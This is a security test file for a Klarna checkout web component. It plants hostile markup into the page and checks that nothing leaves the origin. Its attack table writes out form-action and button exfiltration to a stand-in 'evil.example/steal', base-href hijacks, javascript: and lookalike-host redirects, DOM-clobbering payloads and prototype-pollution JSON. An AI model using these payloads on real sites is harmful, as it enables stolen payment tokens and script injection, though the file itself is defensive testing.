/**
 * Markup that somebody else wrote into the page: it can break a purchase, but it cannot make the element load a
 * script from elsewhere, send data to another origin, or follow a redirect to a foreign host.
 */
import { expect } from '@open-wc/testing';
import * as fc from 'fast-check';
import { Shop } from '../../harness/shop.js';
import { CHANCE } from './hostile.js';

interface Injected {
  /** Attributes of the element. */
  readonly attributes?: string;
  /** Children of the element. */
  readonly children?: string;
  /** Inside the shop's form, before the element. */
  readonly inForm?: string;
  /** Before the form. */
  readonly before?: string;
}

const EVIL = 'https://evil.example';

const json = (kind: string, value: unknown): string =>
  `<script type="application/json" data-${kind}>${JSON.stringify(value).replaceAll('<', '\\u003c')}</script>`;

/** A token that the stand-in takes; the tests put the shop's own in its place. */
const TOKEN = 'e30.e30.e30';

const placed = (redirect_url: string): Injected => ({
  attributes: 'consent="granted"',
  children: json('session', { client_token: TOKEN, order: { status: 'redirect', redirect_url } }),
});

const ATTACKS: Readonly<Record<string, Injected>> = {
  'an endpoint elsewhere': { attributes: `endpoint="${EVIL}/klarna"` },
  'an endpoint elsewhere without a protocol': { attributes: 'endpoint="//evil.example/klarna"' },
  'an endpoint elsewhere by backslashes': { attributes: 'endpoint="/\\evil.example/klarna"' },
  'an endpoint elsewhere by a tab': { attributes: 'endpoint="/&#9;/evil.example/klarna"' },
  'an endpoint whose template is its host': {
    attributes: `endpoint="https://{call}.evil.example/"`,
  },
  'an endpoint whose template is half a host': { attributes: 'endpoint="//{call}/evil.example"' },
  'an endpoint with somebody’s name before the host': {
    attributes: `endpoint="https://${location.host}@evil.example/"`,
  },
  'an endpoint that is a script': { attributes: 'endpoint="javascript:top.pwned=1//{call}"' },
  'an endpoint that is data': { attributes: 'endpoint="data:application/json,{}#{call}"' },
  'a base elsewhere': { before: `<base href="${EVIL}/">` },
  'a base elsewhere on a page that names its endpoint in full': {
    before: `<base href="${EVIL}/">`,
    attributes: `endpoint="${location.origin}/klarna"`,
  },
  'a base elsewhere and relative addresses': {
    before: `<base href="${EVIL}/">`,
    attributes: 'endpoint="klarna"',
  },
  'a form elsewhere that the element is bound to': {
    before: `<form id="evil" method="post" action="${EVIL}/steal"></form>`,
    attributes: 'form="evil"',
  },
  'a form elsewhere around the shop’s': { before: `<form method="post" action="${EVIL}/steal">` },
  'a button elsewhere': { inForm: `<button formaction="${EVIL}/steal" id="buy">Buy</button>` },
  'a button elsewhere that pays': {
    inForm: `<button formaction="${EVIL}/steal" id="buy">Buy</button>`,
    attributes: 'submitter="button"',
  },
  'a button that makes it GET': { inForm: '<button formmethod="get" id="buy">Buy</button>' },
  'a redirect elsewhere': placed(`${EVIL}/thanks`),
  'a redirect to a script': placed('javascript:top.pwned=1'),
  'a redirect to data': placed('data:text/html,<script>top.pwned=1</script>'),
  'a redirect without a protocol': placed('//evil.example/thanks'),
  'a redirect by backslashes': placed('\\\\evil.example\\thanks'),
  'a redirect to a host that only begins like klarna.com': placed(
    'https://klarna.com.evil.example/',
  ),
  'a redirect to a host that only ends like klarna.com': placed('https://evilklarna.com/'),
  'a redirect to a host behind the shop’s name': placed(`https://${location.host}@evil.example/`),
  'a purchase with a prototype': {
    children:
      '<script type="application/json" data-purchase>{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}</script>',
  },
  'a session with a prototype': {
    children: `<script type="application/json" data-session>{"client_token":"${TOKEN}","__proto__":{"capabilities":{"order":true}}}</script>`,
  },
  'a privacy notice that is a script': { attributes: 'privacy-url="javascript:top.pwned=1"' },
  'a header of the attacker’s': { attributes: 'csrf-header="Host" csrf-token="evil.example"' },
  'a header that is none': { attributes: 'csrf-header="x&#10;y: z" csrf-token="&#10;"' },
  'selectors that select everything': { attributes: 'lock="*" submitter="*" choice="*"' },
  'selectors that are none': { attributes: 'lock="<" submitter="[" choice=":"' },
  'a token under the name of another field': { attributes: 'name="action"' },
  'scripts as children': { children: `<script src="${EVIL}/x.js" type="text/plain"></script>` },
  'frames as children': { children: '<iframe name="Klarna" srcdoc="x"></iframe>' },
  'parts in foreign hands': {
    children:
      '<klarna-checkout-status><script type="text/plain"></script></klarna-checkout-status>',
  },
  'a global Klarna': { before: '<a id="Klarna" href="https://evil.example/x.js">x</a>' },
  'a global Klarna with Payments': {
    before: '<form id="Klarna"><input name="Payments" id="init"></form>',
  },
  'a global callback': { before: '<a id="klarnaAsyncCallback" href="https://evil.example">x</a>' },
  'a global policy factory': {
    before: '<form id="trustedTypes"><input name="createPolicy"></form>',
  },
  'scripts of the document': {
    before: `<form name="scripts"><input type="image" alt="" data-klarna-checkout src="${EVIL}/api.js"></form>`,
  },
  'the head of the document': { before: '<form name="head"></form>' },
  'the address of the document': { before: '<form name="baseURI"></form><img name="URL" alt="">' },
  'the functions of the document': {
    before: '<img name="getElementById" alt=""><img name="currentScript" alt="">',
  },
  'the location': { before: '<a id="location" href="https://evil.example">x</a>' },
  'the storage': { before: '<a id="sessionStorage" href="https://evil.example">x</a>' },
  'the form’s attributes': {
    inForm: '<input name="getAttribute"><input name="action"><input name="method">',
  },
  'the form’s submit': { inForm: '<input name="requestSubmit"><input name="submit">' },
  'the form’s elements': { inForm: '<input name="elements"><input name="getRootNode">' },
  meta: {
    before: `<meta name="referrer" content="unsafe-url"><meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'">`,
  },
};

/** The shop's page with all of it in it. */
function page(injected: readonly Injected[]): string {
  const all = (part: keyof Injected): string => injected.map((one) => one[part] ?? '').join(' ');
  return `${all('before')}
    <form method="post" action="/test-endpoint/sent">
      ${all('inForm')}
      <klarna-checkout ${all('attributes')} endpoint="/klarna">${all('children')}</klarna-checkout>
      <button id="buy">Buy</button>
    </form>`;
}

const turns = async (shop: Shop, isOver: () => boolean): Promise<void> => {
  for (let turn = 0; turn < 30 && !isOver(); turn += 1) await shop.settle();
};

describe('injected markup', () => {
  beforeEach(() => sessionStorage.clear());

  /** Goes through as much of a purchase as the markup has left possible. */
  async function buy(injected: readonly Injected[]): Promise<string> {
    const sdk = new URLSearchParams({
      type: 'text/javascript',
      body: 'stage.arrive({ frameless: true })',
    });
    const sdkUrl = new URL(`/test-endpoint/api.js?${sdk}`, location.href).href;
    // As a path: the page's own address decides about it, whatever the markup says.
    const configured = `<script nonce="of-the-page">stage.configure({ sdkUrl: '${new URL(sdkUrl).pathname}?${sdk}' })</script>`;
    const shop = await Shop.open({
      script: 'test/security/page/page',
      body: page(injected) + configured,
      setUp: ({ stage }) =>
        stage.endpoint.on('session', () => ({
          json: stage.endpoint.session({ capabilities: { order: true } }),
        })),
    });
    try {
      const { checkout, document: inner } = shop;
      const address = shop.window.document.defaultView!.location.href;
      await turns(shop, () => checkout.state !== 'idle');
      if (checkout.state === 'consent') checkout.grantConsent();
      await turns(shop, () => !['idle', 'starting', 'loading'].includes(checkout.state));
      const end = checkout.state;
      for (const button of inner.querySelectorAll<HTMLElement>('#buy')) button.click();
      void checkout.authorize();
      // A form whose functions are hidden by its controls cannot send itself: the timer throws.
      await shop.pass(1).catch(() => undefined);
      await shop.settle().catch(() => undefined);
      expectNowhereElse(shop, address, sdkUrl);
      return end;
    } finally {
      shop.close();
    }
  }

  /** The page is where it was, its scripts are its own, and what was sent went home. */
  function expectNowhereElse(shop: Shop, address: string, sdkUrl: string): void {
    const { stage, window } = shop;
    expect(window.document.defaultView!.location.href, 'where the page is').to.equal(address);
    for (const { url } of window.watched.requests) {
      expect(new URL(url).origin, 'where a request went').to.equal(location.origin);
    }
    const tokens = stage.events
      .filter(({ name }) => name === 'klarna-authorized')
      .map(({ detail }) => (detail as { authorizationToken: string }).authorizationToken);
    stage.sent.forEach((entries, nth) => {
      const carriesToken = tokens.some((token) => Object.values(entries).includes(token));
      if (!carriesToken) return;
      expect(new URL(stage.destinations[nth]!).origin, 'where the token went').to.equal(
        location.origin,
      );
    });
    for (const script of window.document.querySelectorAll('script[src]:not([type])')) {
      const src = script.getAttribute('src')!;
      const isOurs = src === sdkUrl || src.startsWith('/test-bundle/');
      expect(isOurs, `a script from ${src}`).to.be.true;
    }
    expect((globalThis as { pwned?: unknown }).pwned, 'a script ran').to.equal(undefined);
    expect(Object.keys(window.Object.prototype), 'Object.prototype').to.deep.equal([]);
    expect((window.Object() as { polluted?: unknown }).polluted).to.equal(undefined);
  }

  it('approves the purchase when none of it is there', async () => {
    expect(await buy([])).to.equal('ready');
  });

  for (const [name, injected] of Object.entries(ATTACKS)) {
    it(name, async () => {
      await buy([injected]);
    });
  }

  it('has no effect when several pieces are combined', async () => {
    const some = fc.subarray(Object.values(ATTACKS), { minLength: 2, maxLength: 4 });
    await fc.assert(
      fc.asyncProperty(some, async (chosen) => {
        await buy(chosen);
      }),
      CHANCE,
    );
  }).timeout(60_000);
});
